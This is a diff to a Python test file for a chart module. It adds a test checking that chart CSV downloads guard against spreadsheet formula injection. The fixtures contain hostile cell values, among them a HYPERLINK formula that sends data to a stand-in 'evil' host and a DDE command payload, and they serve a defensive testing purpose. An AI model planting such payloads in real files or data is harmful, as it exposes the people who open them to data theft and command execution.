@@ -1,5 +1,7 @@
 """The one chart module: Vega-Lite specs with title, axis titles, legend and tooltips; the table beside
 each chart; only the top scatter points labelled; clear errors for bad chart JSON."""
+import csv
+import io
 import json
 import shutil
 import subprocess
@@ -149,3 +151,16 @@ def test_integer_axes_never_repeat_a_tick_label(values):
     assert len(value_axis) >= 2 and len(set(value_axis)) == len(value_axis), value_axis
     numbers = [int(label.replace("\u2212", "-").replace(",", "")) for label in value_axis]
     assert numbers == sorted(numbers) and numbers[0] <= min(values, default=0) <= numbers[-1]
+
+
+def test_chart_csv_download_guards_formulas_as_every_csv_does():
+    # Labels come from users (features, names, prompts): the chart's CSV link is for spreadsheets too.
+    chart = {"kind": "bar", "title": "Hostile", "items": [
+        {"label": '=HYPERLINK("http://evil/?"&A1,"x")', "value": 1},
+        {"label": "+cmd|' /C calc'!A0", "value": -2, "detail": "@SUM(1)"},
+        {"label": "-1", "value": 3}]}
+    rows = list(csv.reader(io.StringIO(unquote(chart_view("chart-h", chart).csv_href.split(",", 1)[1]))))
+    assert rows[0] == ["label", "series", "value", "detail"]
+    assert [row[0] for row in rows[1:]] == ['\'=HYPERLINK("http://evil/?"&A1,"x")', "'+cmd|' /C calc'!A0", "'-1"]
+    assert rows[2][2:] == ["-2.0", "'@SUM(1)"]  # numbers stay numbers; text in any column is guarded
+    assert rows[1][3] == ""  # a row without the optional column has an empty cell
